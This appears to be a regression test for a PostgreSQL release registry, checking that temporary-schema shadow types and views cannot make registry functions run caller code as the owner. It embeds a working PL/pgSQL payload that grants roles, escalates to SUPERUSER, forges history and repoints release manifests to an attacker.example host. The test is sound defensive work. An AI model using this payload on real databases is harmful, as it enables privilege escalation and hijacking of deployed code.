// A caller's temporary objects never run as the registry's owner. On a real PostgreSQL, with an
// owner that is no superuser (as on Supabase) and the logins docs/releases.md has the operator
// create, each login shadows every type and relation name of the catalogue and of the registry with
// pg_temp objects whose code tries to take the registry over, then calls every registry function
// it may execute. With `search_path = ''` the function found those objects first (issue 51).
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import pg from 'pg';
import { applyRegistrySchema } from './applyRegistrySchema.mjs';
import { grantRelease } from './registryGrants.mjs';
import {
  createRegistryOwner,
  ensurePostgresBinaries,
  REGISTRY_OWNER,
  startRealPostgres,
} from './realPostgresForTests.mjs';

const binaries = ensurePostgresBinaries();
if ('missing' in binaries) {
  // Skipped on a developer's machine without Postgres; never in CI.
  if (process.env.CI) throw new Error(binaries.missing);
  console.log(`skipping the real Postgres tests: ${binaries.missing}`);
}

/** The team logins of docs/releases.md, each granted its remote in one environment. */
const TEAM_LOGINS = [
  { login: 'marketing_staging', role: 'release_marketing', remote: 'marketing', environment: 'staging' },
  {
    login: 'marketing_production',
    role: 'release_marketing',
    remote: 'marketing',
    environment: 'production',
  },
  { login: 'booking_staging', role: 'release_booking', remote: 'booking', environment: 'staging' },
];
/** A shell server's login. */
const READER_LOGIN = { login: 'shell_production', role: 'release_reader' };

const url = (/** @type {string} */ remote, /** @type {number} */ n) =>
  `https://${remote}.cdn.example/releases/v${n}/mf-manifest.json`;

/**
 * The caller's code, in its own temporary schema: it notes that it ran (a WARNING, which reaches
 * the client even when the statement then fails, and a row in a table anyone may write), then
 * tries what the registry's owner may do: grant the caller production and another team's remote,
 * move the other teams' pointers (not its own, so its own release still lands), count revisions,
 * write history, hand the caller the team roles and the owner's attributes. Each attempt stands
 * alone, so one refused does not hide the others.
 */
const PAYLOAD = `
CREATE TABLE pg_temp.payload_calls (ran_as text, shadowing text);
GRANT ALL ON pg_temp.payload_calls TO PUBLIC;
CREATE FUNCTION pg_temp.payload(shadowing text) RETURNS boolean LANGUAGE plpgsql AS $payload$
BEGIN
  RAISE WARNING 'payload ran as % (shadowing %)', current_user, shadowing;
  INSERT INTO pg_temp.payload_calls VALUES (current_user, shadowing);
  BEGIN
    INSERT INTO public.release_grant VALUES
      (session_user, 'marketing', 'production'), (session_user, 'booking', 'production')
      ON CONFLICT DO NOTHING;
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN
    UPDATE public.release_pointer SET manifest_url = 'https://attacker.example/mf-manifest.json'
      WHERE NOT pg_catalog.pg_has_role(session_user, 'release_' || remote, 'MEMBER');
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN
    UPDATE public.release_environment SET revision = revision + 1000;
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN
    INSERT INTO public.release_history (environment, revision, remote, action, to_url, actor, db_role)
      VALUES ('production', 1000000, 'booking', 'release', 'https://attacker.example/', 'nobody', 'nobody')
      ON CONFLICT DO NOTHING;
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN
    EXECUTE format('GRANT release_booking, release_marketing, release_contact TO %I', session_user);
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN
    EXECUTE format('ALTER ROLE %I CREATEROLE', session_user);
  EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN
    EXECUTE format('ALTER ROLE %I SUPERUSER', session_user);
  EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END;
$payload$;`;

/**
 * Shadows, in the caller's temporary schema: a domain for each base type of pg_catalog (its array
 * comes with it), whose CHECK runs the payload, and a view for each table and view of pg_catalog
 * and public, whose every read and write runs it. Each name is reported, so the test can see them
 * all made.
 */
const SHADOWS = `
CREATE FUNCTION pg_temp.shadow_rows(shadowing text, shape anyelement) RETURNS SETOF anyelement
LANGUAGE plpgsql AS $rows$ BEGIN PERFORM pg_temp.payload(shadowing); RETURN; END; $rows$;
CREATE FUNCTION pg_temp.shadow_write() RETURNS trigger
LANGUAGE plpgsql AS $write$ BEGIN PERFORM pg_temp.payload(TG_TABLE_NAME); RETURN NULL; END; $write$;
CREATE TABLE pg_temp.shadows (kind text, name text, made boolean);
DO $shadows$
DECLARE
  shadowed record;
BEGIN
  FOR shadowed IN
    SELECT t.typname AS name FROM pg_catalog.pg_type t
    WHERE t.typnamespace = 'pg_catalog'::pg_catalog.regnamespace AND t.typtype = 'b'
      AND t.typname NOT LIKE '\\_%'
  LOOP
    BEGIN
      EXECUTE pg_catalog.format('CREATE DOMAIN pg_temp.%I AS pg_catalog.%I CHECK (pg_temp.payload(%L))',
        shadowed.name, shadowed.name, shadowed.name);
      INSERT INTO pg_temp.shadows VALUES ('type', shadowed.name, true);
    EXCEPTION WHEN OTHERS THEN
      INSERT INTO pg_temp.shadows VALUES ('type', shadowed.name, false);
    END;
  END LOOP;
  FOR shadowed IN
    SELECT n.nspname AS schema, c.relname AS name FROM pg_catalog.pg_class c
    JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
    WHERE n.nspname IN ('pg_catalog', 'public') AND c.relkind IN ('r', 'v', 'm', 'p', 'f')
  LOOP
    BEGIN
      BEGIN
        EXECUTE pg_catalog.format(
          'CREATE VIEW pg_temp.%I AS SELECT * FROM pg_temp.shadow_rows(%L, NULL::%I.%I)',
          shadowed.name, shadowed.name, shadowed.schema, shadowed.name);
      EXCEPTION WHEN OTHERS THEN -- a row no view can have (a column of type anyarray): one of its own
        EXECUTE pg_catalog.format(
          'CREATE VIEW pg_temp.%I AS SELECT * FROM pg_temp.shadow_rows(%L, NULL::pg_catalog.text)',
          shadowed.name, shadowed.name);
      END;
      EXECUTE pg_catalog.format(
        'CREATE TRIGGER shadow_write INSTEAD OF INSERT OR UPDATE OR DELETE ON pg_temp.%I
         FOR EACH ROW EXECUTE FUNCTION pg_temp.shadow_write()', shadowed.name);
      EXECUTE pg_catalog.format('GRANT ALL ON pg_temp.%I TO PUBLIC', shadowed.name);
      INSERT INTO pg_temp.shadows VALUES ('relation', shadowed.name, true);
    EXCEPTION WHEN OTHERS THEN
      INSERT INTO pg_temp.shadows VALUES ('relation', shadowed.name, false);
    END;
  END LOOP;
END;
$shadows$;`;

/** @type {Awaited<ReturnType<typeof startRealPostgres>>} */
let server;
/** @type {pg.Client[]} */
const opened = [];

/** A session of its own, as `login`. @param {string} login */
async function session(login) {
  const client = new pg.Client({ connectionString: server.urlAs(login) });
  await client.connect();
  opened.push(client);
  return client;
}

/**
 * The issue's recipe alone: a domain named `name`, which release_change declared its caller with.
 * Every other name is left alone, so a change that finds it still lands, with what the payload did.
 */
const ISSUE_RECIPE = `
CREATE DOMAIN pg_temp.name AS pg_catalog.name CHECK (pg_temp.payload('name'));
CREATE TABLE pg_temp.shadows (kind text, name text, made boolean);`;

/**
 * A session as `login` with the payload and `shadows` in its temporary schema, and the payload's
 * warnings as they arrive.
 * @param {string} login @param {string} shadows SHADOWS or ISSUE_RECIPE
 */
async function shadowedSession(login, shadows = SHADOWS) {
  const client = await session(login);
  /** @type {string[]} */
  const warnings = [];
  client.on('notice', ({ message }) => {
    if (message?.startsWith('payload ran')) warnings.push(message);
  });
  await client.query(PAYLOAD);
  await client.query(shadows);
  if (shadows === SHADOWS) {
    const { rows } = await client.query(
      `SELECT pg_catalog.count(*) FILTER (WHERE kind = 'type') AS types,
              pg_catalog.count(*) FILTER (WHERE kind = 'relation') AS relations,
              pg_catalog.array_agg(name) FILTER (WHERE NOT made) AS refused
       FROM pg_temp.shadows`,
    );
    assert.equal(rows[0].refused, null, `shadows that could not be made: ${rows[0].refused}`);
    assert.ok(Number(rows[0].types) > 50 && Number(rows[0].relations) > 100, JSON.stringify(rows[0]));
  }
  return { client, warnings };
}

/** The payload's notes in `client`'s session: none, or who it ran as. @param {pg.Client} client */
async function payloadCalls(client) {
  const { rows } = await client.query('SELECT ran_as, shadowing FROM pg_temp.payload_calls');
  return rows.map(({ ran_as, shadowing }) => `${ran_as} (shadowing ${shadowing})`);
}

/**
 * A team's release_change as its command calls it.
 * @param {pg.Client} client @param {{ environment: string, remote: string, from: string, to: string }} change
 */
const releaseChange = (client, { environment, remote, from, to }) =>
  client.query(
    `SELECT * FROM public.release_change($1, $2, $3, $4, 'release', 'ci', 'abc', false, false, NULL, $5)`,
    [environment, remote, from, to, [from]],
  );

/** 'landed', or the error's message. @param {Promise<unknown>} change */
const outcome = (change) =>
  change.then(
    () => 'landed',
    (/** @type {Error} */ error) => error.message,
  );

/**
 * What the payload would change, read by the superuser: the grants, pointers, revisions and
 * history rows, and every role's attributes and memberships.
 */
async function registryAndRoles() {
  const superuser = await session('postgres');
  const read = async (/** @type {string} */ sql) => (await superuser.query(sql)).rows;
  return {
    grants: await read('SELECT * FROM release_grant ORDER BY grantee, remote, environment'),
    pointers: await read('SELECT * FROM release_pointer ORDER BY environment, remote'),
    environments: await read('SELECT * FROM release_environment ORDER BY environment'),
    history: await read(
      'SELECT environment, revision, remote, to_url, db_role FROM release_history ORDER BY environment, revision',
    ),
    roles: await read(
      `SELECT rolname, rolsuper, rolcreaterole, rolcreatedb, rolinherit, rolcanlogin, rolreplication, rolbypassrls
       FROM pg_roles ORDER BY rolname`,
    ),
    memberships: await read(
      `SELECT r.rolname AS role, m.rolname AS member FROM pg_auth_members a
       JOIN pg_roles r ON r.oid = a.roleid JOIN pg_roles m ON m.oid = a.member ORDER BY 1, 2`,
    ),
  };
}

/**
 * The registry's functions `login` may execute (outside the catalogue), read in a session without
 * shadows: the test must call each of them. @param {string} login
 */
async function executableFunctions(login) {
  const client = await session(login);
  const { rows } = await client.query(
    `SELECT p.oid::regprocedure::text AS signature FROM pg_proc p
     JOIN pg_namespace n ON n.oid = p.pronamespace
     WHERE n.nspname NOT IN ('pg_catalog', 'information_schema') AND n.nspname NOT LIKE 'pg\\_%'
       AND has_function_privilege(p.oid, 'EXECUTE')
     ORDER BY 1`,
  );
  return rows.map(({ signature }) => signature.replace(/\(.*/, ''));
}

/**
 * What registryAndRoles reads after `landed` changes (in order) and nothing else: their pointers
 * moved, their environments' revisions counted, a history row each, by the login that made it.
 * @param {Awaited<ReturnType<typeof registryAndRoles>>} before
 * @param {Array<{ login: string, environment: string, remote: string, to: string }>} landed
 */
function onlyThese(before, landed) {
  const revisions = new Map(before.environments.map((row) => [row.environment, Number(row.revision)]));
  const added = landed.map(({ login, environment, remote, to }) => {
    const revision = (revisions.get(environment) ?? 0) + 1;
    revisions.set(environment, revision);
    return { environment, revision: String(revision), remote, to_url: to, db_role: login };
  });
  const byPlace = (/** @type {any} */ a, /** @type {any} */ b) =>
    a.environment.localeCompare(b.environment) || Number(a.revision) - Number(b.revision);
  return {
    ...before,
    pointers: before.pointers.map((pointer) => {
      const change = added.findLast(
        (row) => row.environment === pointer.environment && row.remote === pointer.remote,
      );
      return change ? { ...pointer, manifest_url: change.to_url, revision: change.revision } : pointer;
    }),
    environments: before.environments.map((row) => ({
      ...row,
      revision: String(revisions.get(row.environment)),
    })),
    history: [...before.history, ...added].sort(byPlace),
  };
}

describe('on a real Postgres whose registry owner is no superuser', { skip: 'missing' in binaries }, () => {
  before(async () => {
    if (!('bin' in binaries)) return;
    server = await startRealPostgres(binaries.bin);
    await createRegistryOwner(server.databaseUrl);
    const ownerPool = new pg.Pool({ connectionString: server.urlAs(REGISTRY_OWNER), max: 1 });
    try {
      await applyRegistrySchema(ownerPool);
    } finally {
      await ownerPool.end();
    }
    // As docs/releases.md has the operator do it, with the owner's login.
    const operator = await session(REGISTRY_OWNER);
    for (const { login, role } of [...TEAM_LOGINS, READER_LOGIN]) {
      await operator.query(`CREATE ROLE ${login} LOGIN IN ROLE ${role}`);
    }
    for (const environment of ['staging', 'production']) {
      for (const remote of ['marketing', 'booking']) {
        await operator.query(
          `SELECT * FROM public.release_change($1, $2, NULL, $3, 'publish', 'operator', NULL)`,
          [environment, remote, url(remote, 1)],
        );
      }
    }
    for (const { login, remote, environment } of TEAM_LOGINS) {
      await grantRelease(server.urlAs(REGISTRY_OWNER), { grantee: login, remote, environment });
    }
  });
  after(async () => {
    await Promise.all(opened.map((client) => client.end()));
    await server?.close();
  });

  /**
   * Each team login, in a session holding `shadows`, makes its ordinary release and tries another
   * team's remote and an environment it was not granted; the payload must not have run, and only
   * the ordinary releases may have changed anything.
   * @param {string} shadows
   */
  async function everyTeamCalls(shadows) {
    const before = await registryAndRoles();
    /** @type {Array<{ login: string, environment: string, remote: string, to: string }>} */
    const landed = [];
    for (const { login, remote, environment } of TEAM_LOGINS) {
      assert.deepEqual(await executableFunctions(login), ['release_change']);
      const { client, warnings } = await shadowedSession(login, shadows);
      const live = before.pointers.find((row) => row.environment === environment && row.remote === remote);
      const own = { environment, remote, from: live.manifest_url, to: `${live.manifest_url}?next` };
      const other = remote === 'marketing' ? 'booking' : 'marketing';
      const elsewhere = environment === 'staging' ? 'production' : 'staging';
      const ownRelease = await outcome(releaseChange(client, own));
      const otherRemote = await outcome(releaseChange(client, { ...own, remote: other }));
      const otherEnvironment = await outcome(releaseChange(client, { ...own, environment: elsewhere }));
      assert.deepEqual(warnings, [], `${login}'s payload ran`);
      assert.deepEqual(await payloadCalls(client), [], `${login}'s payload ran`);
      assert.equal(ownRelease, 'landed');
      assert.match(otherRemote, new RegExp(`${login} may not move ${other} in ${environment}`));
      assert.match(otherEnvironment, new RegExp(`${login} may not move ${remote} in ${elsewhere}`));
      landed.push({ login, environment, remote, to: own.to });
    }
    assert.deepEqual(await registryAndRoles(), onlyThese(before, landed));
  }

  test("a team login's temporary types and tables, every name of the catalogue's, never run as the owner: its own release lands, nothing else changes", async () => {
    await everyTeamCalls(SHADOWS);
  });

  test("the issue's recipe, a temporary domain named `name`, never runs as the owner", async () => {
    await everyTeamCalls(ISSUE_RECIPE);
  });

  test('a reader login executes no registry function: release_change is refused before its body runs', async () => {
    assert.deepEqual(await executableFunctions(READER_LOGIN.login), []);
    const { client, warnings } = await shadowedSession(READER_LOGIN.login);
    const change = {
      environment: 'staging',
      remote: 'marketing',
      from: url('marketing', 1),
      to: url('marketing', 2),
    };
    await assert.rejects(releaseChange(client, change), /permission denied for function release_change/);
    assert.deepEqual(warnings, []);
    assert.deepEqual(await payloadCalls(client), []);
  });
});
